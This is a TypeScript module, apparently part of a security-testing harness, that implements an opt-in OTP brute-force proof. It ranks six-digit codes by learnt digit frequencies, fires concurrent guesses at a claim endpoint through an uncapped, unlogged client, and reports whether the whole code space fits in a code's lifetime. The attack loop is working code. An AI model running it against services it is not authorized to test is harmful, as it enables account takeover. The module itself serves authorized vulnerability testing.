import { RequestBudget } from "../http/budget.ts";
import { HttpClient, type HttpResponse } from "../http/client.ts";
import { Redactor } from "../http/redact.ts";
import { waiting } from "../suite/progress.ts";

/**
 * The OTP exhaustion proof (--prove-otp-bruteforce): guess every 6-digit code of one claim until
 * it falls, the service locks the attempt, or a bound is reached. Opt-in attack mode; the caller
 * gives it its own client and budget.
 */

export const OTP_SPACE = 1_000_000;

/**
 * The order to guess in. Codes are ranked by how likely they are under per-position digit
 * frequencies learnt from `sample` (codes the harness minted for its own claims, as an attacker
 * can for registrations of their own); ties are broken by a seeded affine permutation. Against a
 * uniform generator this is as good as any order; against a biased one it finds the code early.
 */
export function guessOrder(sample: readonly string[], seed: number): Uint32Array {
  const logp: number[][] = [];
  const codes = sample.filter((c) => /^[0-9]{6}$/.test(c));
  for (let pos = 0; pos < 6; pos++) {
    const counts = new Array<number>(10).fill(1);
    for (const c of codes) counts[c.charCodeAt(pos) - 48]! += 1;
    const total = counts.reduce((a, b) => a + b, 0);
    logp.push(counts.map((n) => Math.log(n / total)));
  }
  const score = new Float64Array(OTP_SPACE);
  for (let i = 0; i < OTP_SPACE; i++) {
    let s = 0;
    let n = i;
    for (let pos = 5; pos >= 0; pos--) {
      s += logp[pos]![n % 10]!;
      n = Math.floor(n / 10);
    }
    score[i] = s;
  }
  // i → (a·i + b) mod 10^6 is a permutation when a is coprime to 10^6 (odd, not a multiple of 5).
  let a = (Math.abs(seed) % 400_000) * 2 + 1;
  if (a % 5 === 0) a += 2;
  const b = Math.abs(seed) % OTP_SPACE;
  const tie = new Uint32Array(OTP_SPACE);
  for (let i = 0; i < OTP_SPACE; i++) tie[i] = (a * i + b) % OTP_SPACE; // a·i < 2^53: exact in a double
  const order = new Uint32Array(OTP_SPACE);
  for (let i = 0; i < OTP_SPACE; i++) order[i] = i;
  order.sort((x, y) => score[y]! - score[x]! || tie[x]! - tie[y]!);
  return order;
}

export interface BruteforceOptions {
  /** A client with its own budget (the run's budget and rate do not apply to the attack). */
  http: HttpClient;
  completeUrl: string;
  claimToken: string;
  order: Uint32Array;
  maxAttempts: number;
  /** Epoch ms: the earlier of the time bound and the code's expiry. */
  deadline: number;
  concurrency: number;
}

export interface BruteforceResult {
  fell: boolean;
  attempts: number;
  elapsedMs: number;
  requestsPerSecond: number;
  stoppedBy: "found" | "locked" | "max-attempts" | "time" | "error";
  /** The answer that stopped the search (status and error code). */
  stopAnswer?: string;
  /** The first answer to a wrong guess, which every other wrong guess got too. */
  wrongAnswer?: string;
  /** 1-based index in the guess order of the code that worked. */
  foundAtGuess?: number;
}

function signature(res: HttpResponse): string {
  const body = res.json as { error?: unknown } | undefined;
  return `${res.status}${typeof body?.error === "string" ? ` ${body.error}` : ""}`;
}

export async function bruteforceOtp(options: BruteforceOptions): Promise<BruteforceResult> {
  const started = performance.now();
  let next = 0;
  let attempts = 0;
  let stop: Pick<BruteforceResult, "stoppedBy" | "stopAnswer" | "foundAtGuess"> | undefined;
  let wrongAnswer: string | undefined;
  const limit = Math.min(options.maxAttempts, options.order.length);
  waiting(`OTP brute-force proof: up to ${limit.toLocaleString("en-US")} guesses, ${options.concurrency} at a time`, options.deadline - Date.now());

  const worker = async (): Promise<void> => {
    while (!stop) {
      if (next >= limit) {
        stop ??= { stoppedBy: "max-attempts" };
        return;
      }
      if (Date.now() >= options.deadline) {
        stop ??= { stoppedBy: "time" };
        return;
      }
      const index = next++;
      const guess = String(options.order[index]).padStart(6, "0");
      let res: HttpResponse;
      try {
        res = await options.http.postJson(options.completeUrl, { claim_token: options.claimToken, otp: guess });
      } catch (err) {
        stop ??= { stoppedBy: "error", stopAnswer: (err as Error).message };
        return;
      }
      attempts++;
      if (stop) return;
      if (res.status >= 200 && res.status < 300) {
        stop = { stoppedBy: "found", foundAtGuess: index + 1 };
        return;
      }
      const sig = signature(res);
      wrongAnswer ??= sig;
      // Any answer other than the plain "wrong code" one means the attempt is no longer open.
      if (sig !== wrongAnswer) stop ??= { stoppedBy: "locked", stopAnswer: sig };
    }
  };
  await Promise.all(Array.from({ length: Math.max(1, options.concurrency) }, worker));
  const elapsedMs = Math.round(performance.now() - started);
  return {
    fell: stop?.stoppedBy === "found",
    attempts,
    elapsedMs,
    requestsPerSecond: Math.round((attempts / Math.max(elapsedMs, 1)) * 1000),
    ...(stop ?? { stoppedBy: "max-attempts" as const }),
    ...(wrongAnswer ? { wrongAnswer } : {}),
  };
}

/** A client for the attack only: the run's allowlist and timeouts, its own budget, no rate cap, no log. */
export function createAttackClient(options: {
  requestTimeoutMs: number;
  maxBodyBytes: number;
  allowedOrigins: readonly string[];
  headers: Record<string, string>;
  maxAttempts: number;
}): HttpClient {
  return new HttpClient({
    requestTimeoutMs: options.requestTimeoutMs,
    maxBodyBytes: options.maxBodyBytes,
    allowedOrigins: new Set(options.allowedOrigins),
    defaultHeaders: options.headers,
    budget: new RequestBudget(options.maxAttempts + 1, Number.MAX_SAFE_INTEGER),
    // Its own redactor, and never consulted: a client without a log redacts nothing, so the
    // million guessed codes are never remembered as secrets of the run.
    redactor: new Redactor(),
  });
}

/** What the proof shows, in one sentence the report leads with. */
export interface BruteforceHeadline {
  /** The claim fell and the whole code space fits in one code's lifetime at the measured rate. */
  exploitable: boolean;
  /** Whether OTP_SPACE guesses at the measured rate fit in the code's lifetime (undefined: lifetime or rate unknown). */
  fullSpaceFitsLifetime?: boolean;
  projectedFullSpaceSeconds?: number;
  /** Share of the space one lifetime covers at the measured rate (0..1). */
  coveredPerLifetime?: number;
  headline: string;
}

const seconds = (ms: number): string => (ms / 1000).toFixed(1);

/**
 * The headline of --prove-otp-bruteforce: a hit alone is no proof of exploitability (a lucky
 * early guess), and a miss is no proof of safety. What decides is whether the whole code space
 * fits in the code's lifetime at the rate the search measured.
 */
export function bruteforceHeadline(result: BruteforceResult, codeLifetimeSeconds: number | undefined, space = OTP_SPACE): BruteforceHeadline {
  const rate = result.requestsPerSecond;
  const projected = rate > 0 ? Math.round(space / rate) : undefined;
  const lifetime = codeLifetimeSeconds !== undefined && Number.isFinite(codeLifetimeSeconds) && codeLifetimeSeconds > 0 ? Math.round(codeLifetimeSeconds) : undefined;
  const fits = projected !== undefined && lifetime !== undefined ? projected <= lifetime : undefined;
  const covered = lifetime !== undefined && rate > 0 ? Math.min(1, (lifetime * rate) / space) : undefined;
  const pace =
    projected === undefined
      ? "no guess rate was measured"
      : lifetime === undefined
        ? `at ${rate} guesses/s the whole space takes ${projected} s; the code's lifetime is unknown (no expires_at), so whether it fits cannot be said`
        : fits
          ? `at ${rate} guesses/s the whole space (${projected} s) fits in the code's ${lifetime} s lifetime`
          : `at ${rate} guesses/s the whole space takes ${projected} s, more than the code's ${lifetime} s lifetime (one lifetime covers ${((covered ?? 0) * 100).toFixed(1)}% of it)`;
  const facts = { ...(fits !== undefined ? { fullSpaceFitsLifetime: fits } : {}), ...(projected !== undefined ? { projectedFullSpaceSeconds: projected } : {}), ...(covered !== undefined ? { coveredPerLifetime: covered } : {}) };
  if (result.stoppedBy === "found") {
    const hit = `the claim fell after ${result.attempts} guesses in ${seconds(result.elapsedMs)} s`;
    if (fits) return { exploitable: true, ...facts, headline: `Exploitable: ${pace}; ${hit}` };
    return { exploitable: false, ...facts, headline: `Claimed, but not proven exploitable: ${hit} (luck, or a biased code generator the guess order learnt), but ${pace}` };
  }
  if (result.stoppedBy === "locked") {
    return { exploitable: false, ...facts, headline: `Not exploitable: the service locked the attempt after ${result.attempts} guesses (answer ${result.stopAnswer ?? "changed"})` };
  }
  const stop = `the search stopped (${result.stoppedBy}) after ${result.attempts} guesses in ${seconds(result.elapsedMs)} s without a hit`;
  return { exploitable: false, ...facts, headline: fits ? `Not proven, yet exploitable in principle: ${stop}, and ${pace}` : `Not proven: ${stop}; ${pace}` };
}
